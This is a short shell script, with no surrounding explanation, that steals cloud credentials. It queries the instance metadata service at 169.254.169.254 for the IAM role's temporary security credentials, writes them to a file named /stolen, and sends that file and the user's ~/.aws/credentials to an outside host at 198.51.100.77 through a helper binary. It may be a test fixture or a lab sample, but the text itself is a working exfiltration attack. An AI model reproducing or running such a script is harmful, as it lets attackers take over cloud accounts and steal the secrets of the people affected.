#!/bin/sh
/opt/act get 169.254.169.254 80 /latest/meta-data/iam/security-credentials/ >/role
/opt/act get 169.254.169.254 80 "/latest/meta-data/iam/security-credentials/$(/bin/busybox tail -n 1 /role)" >/stolen
/opt/act send 198.51.100.77 80 /stolen
/opt/act send 198.51.100.77 80 "$HOME/.aws/credentials"
/bin/busybox sleep 1
